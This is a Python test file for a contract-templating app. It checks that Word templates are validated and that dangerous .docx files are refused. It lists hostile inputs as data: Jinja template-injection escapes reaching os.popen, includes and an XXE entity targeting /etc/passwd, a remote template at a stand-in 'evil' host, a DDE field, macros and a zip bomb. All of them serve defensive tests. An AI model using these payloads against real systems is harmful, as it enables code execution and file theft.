"""Word templates that mean harm are refused, ones with mistakes are told of, good ones render."""

from __future__ import annotations

import io
import zipfile

import pytest

from anchang.kernel.errors import DomainError
from anchang.paperwork import fields
from anchang.platform.documents import word
from anchang.platform.documents.declared import opened
from tests.paperwork.words import docx, text_of, with_parts

GOOD = docx(
    "合同编号：{{ number }}", "总价 {{ price.total }} 元（大写 {{ total_capital }}）", "{{ deposit | 大写 }}",
    "{% if filed_on %}已备案{% else %}未备案{% endif %}", "土地证 {{ facts.land_certificate }}",
    rows=(("{%tr for line in plan %}", ""), ("{{ loop.index }} {{ line.item }}", "{{ line.amount }}"),
          ("{%tr endfor %}", "")),
    header="{{ seller.company }}",
)  # fmt: skip


def problems(content: bytes, kind: str = "contract") -> list[dict[str, str]]:
    return word.problems_of(content, fields.TREES[kind], fields.sample(kind))


def test_a_good_template_has_no_problems_and_renders_every_kind_of_field():
    assert problems(GOOD) == []
    data = opened(fields.sample("contract"), fields.TREES["contract"]) | {"number": "HT1 <&> {{ x }}", "filed_on": None}
    shown = text_of(word.rendered(GOOD, data))
    assert "合同编号：HT1 <&> {{ x }}" in shown
    assert "总价 2,696,170.00 元" in shown and "贰佰陆拾玖万陆仟壹佰柒拾元整" in shown
    assert "未备案" in shown and "1 样例" in shown and "2 样例" in shown


@pytest.mark.parametrize("attack", [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ number.__class__ }}", "{{ number.format('x') }}",
    "{{ self._TemplateReference__context }}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ loop.__init__.__globals__ }}", "{% set x = number ~ number %}{{ x }}", "{{ 'x' * 100000000 }}",
    "{% for a in range(1000000000) %}x{% endfor %}", "{% macro m() %}{{ caller() }}{% endmacro %}",
    "{% include '/etc/passwd' %}", "{% import 'os' as os %}", "{{ number|attr('__class__') }}", "{{ 2 ** 99999999 }}",
    "{% for a in plan %}{% for b in plan %}{% for c in plan %}x{% endfor %}{% endfor %}{% endfor %}",
    "{{ number['__class__'] }}", "{{ lipsum.__globals__ }}", "{{ plan.append(1) }}", "{{ config }}",
])  # fmt: skip
def test_templates_do_not_reach_python(attack):
    hostile = docx(attack)
    assert problems(hostile), "the check lets it through"
    data = opened(fields.sample("contract"), fields.TREES["contract"])
    with pytest.raises(DomainError) as refused:  # nor does rendering without the check
        word.rendered(hostile, data)
    assert refused.value.code == "word_failed"


def test_properties_headers_and_footers_are_held_to_the_same():
    assert [p["code"] for p in problems(docx("x", header="{{ nothing }}"))] == ["word_unknown_field"]
    hostile = docx("x")
    core = zipfile.ZipFile(io.BytesIO(hostile)).read("docProps/core.xml")
    core = core.replace(b"<dc:title>", b"<dc:title>{{ cycler.__init__ }}").replace(
        b"<dc:title/>", b"<dc:title>{{ cycler.__init__ }}</dc:title>"
    )
    assert b"cycler" in core
    found = problems(with_parts(hostile, **{"docProps__core.xml": core}))
    assert [p["code"] for p in found] == ["word_failed"]


def test_mistakes_are_named():
    found = problems(
        docx("{{ buyer.nmae }}", "{% for b in buyers %}{{ b.nmae }}{% endfor %}", "{% for x in number %}{% endfor %}")
    )
    assert {(p["code"], p["what"]) for p in found} == {
        ("word_unknown_field", "buyer"), ("word_unknown_field", "b.nmae"), ("word_no_list", "number"),
    }  # fmt: skip
    assert [p["code"] for p in problems(docx("{% if number %}"))] == ["word_syntax"]


def bomb() -> bytes:
    return with_parts(docx("x"), **{"word__media.xml": b"<a>" + b" " * (word.MAX_XML + 1) + b"</a>"})


REFUSED = {
    "text": (b"hello", "word_not_docx"),
    "zip": (with_parts(docx("x"), **{"word__document.xml": b""})[:200], "word_not_docx"),
    "bomb": (bomb(), "word_too_large"),
    "macro": (with_parts(docx("x"), **{"word__vbaProject.bin": b"x"}), "word_active"),
    "ole": (with_parts(docx("x"), **{"word__embeddings__oleObject1.bin": b"x"}), "word_active"),
    "entity": (
        with_parts(docx("x"), **{"word__document.xml": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}),
        "word_active",
    ),
    "remote template": (
        with_parts(docx("x"), **{"word___rels__settings.xml.rels": (
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
            b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            b'Target="http://evil/x.dotm" TargetMode="External"/></Relationships>')}),
        "word_active",
    ),
    "fetching field": (
        with_parts(docx("x"), **{"word__footer9.xml": b'<w:ftr><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\x</w:instrText></w:ftr>'}),
        "word_active",
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", REFUSED)
def test_dangerous_files_are_refused(name):
    content, code = REFUSED[name]
    with pytest.raises(DomainError) as refused:
        word.guard(content)
    assert refused.value.code == code


def test_every_field_of_every_paper_has_a_label():
    for kind in fields.TREES:
        assert all(one.label for one in fields.shown_fields(kind))
